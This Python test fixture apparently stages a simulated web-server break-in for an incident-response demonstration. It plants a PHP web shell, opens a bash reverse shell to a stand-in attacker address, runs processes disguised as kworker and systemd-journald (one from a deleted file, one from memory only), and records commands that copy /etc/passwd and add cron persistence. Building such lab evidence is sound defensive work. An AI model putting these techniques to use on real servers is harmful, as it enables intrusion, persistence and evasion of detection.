"""A small break-in for the demonstration: what a responder finds on a web server after it."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
from pathlib import Path
from typing import Any

from tests.lab.inside import actors, libc, shell, sockets

WEB, ROOT = 33, 0
HOME = "/var/www/html"
OWN, OTHER = "192.0.2.10", "203.0.113.66"
TYPED = [
    "id",
    "cd /dev/shm",
    "chmod +x .kw",
    "./.kw &",
    "rm .kw",
    "cat /etc/passwd > /tmp/.x",
    "echo '* * * * * /dev/shm/.kw' >> /tmp/.cron",
]


def run() -> dict[str, Any]:
    """A web server, what came in through it, and what it left running."""
    libc.sethostname(b"web1")
    for module in ("dummy", "veth", "loop", "nf_tables"):
        subprocess.run(["modprobe", module], check=False, stderr=subprocess.DEVNULL)
    _configure_network()
    Path(HOME).mkdir(parents=True)
    Path(f"{HOME}/index.html").write_text("<h1>It works!</h1>")
    Path(f"{HOME}/upload.php").write_text("<?php system($_GET['c']); ?>")
    attacker = actors.start("attacker", _attacker)
    started = [
        actors.start("sshd", _listens, 22, ROOT, name=b"sshd"),
        actors.start("web", _listens, 80, WEB, name=b"nginx"),
        actors.start("look_alike", _look_alike),
        actors.start("reverse_shell", _reverse_shell),
        actors.start("memfd", _from_memfd),
    ]
    typed = shell.typed("shell", TYPED, ROOT, {"HOME": "/root", "HISTFILE": "/dev/null"})
    roles = [attacker, *started, typed]
    return {
        "roles": {role["role"]: role["pid"] for role in roles},
        "history": {str(typed["pid"]): typed["history"]},
    }


def last_moment() -> None:
    """Nothing that passes is told in the demonstration."""


def _configure_network() -> None:
    """The attacker is a network namespace away."""
    sockets.ip("link set lo up")
    sockets.ip("netns add outside")
    sockets.ip("link add eth0 type veth peer name eth1 netns outside")
    sockets.ip(f"addr add {OWN}/24 dev eth0")
    sockets.ip("link set eth0 up")
    sockets.ip("route add default dev eth0")
    sockets.ip(f"-n outside addr add {OTHER}/24 dev eth1")
    sockets.ip("-n outside link set eth1 up")
    sockets.ip("-n outside route add default dev eth1")


def _attacker() -> list[Any]:
    """The far end, which listens for the shell and has a look at the site."""
    with open("/run/netns/outside") as namespace:
        libc.setns(namespace.fileno())
    return [socket.create_server(("0.0.0.0", 4444))]


def _listens(port: int, uid: int) -> list[Any]:
    server = socket.create_server(("0.0.0.0", port))
    actors.user(uid)
    return [server]


def _look_alike() -> None:
    """A miner that calls itself a kernel thread, and whose program is gone."""
    hidden = "/dev/shm/.kw"
    shutil.copy("/usr/bin/sleep", hidden)
    program = os.open(hidden, os.O_RDONLY)
    os.unlink(hidden)
    actors.user(WEB)
    actors.become(f"/proc/self/fd/{program}", [b"[kworker/0:1]", b"100000"])


def _reverse_shell() -> None:
    """bash with its standard streams on a connection to the attacker."""
    connection = socket.create_connection((OTHER, 4444))
    actors.user(WEB)
    os.chdir(HOME)
    for descriptor in range(3):
        os.dup2(connection.fileno(), descriptor)
    actors.become("/bin/bash", [b"bash", b"-i"], {b"PATH": b"/usr/bin:/bin", b"REMOTE_ADDR": OTHER.encode()})


def _from_memfd() -> None:
    """A program that was never on a disk."""
    descriptor = os.memfd_create("systemd-journald")
    os.write(descriptor, Path("/usr/bin/sleep").read_bytes())
    os.set_inheritable(descriptor, True)
    actors.become(f"/proc/self/fd/{descriptor}", [b"/lib/systemd/systemd-journald", b"100000"])
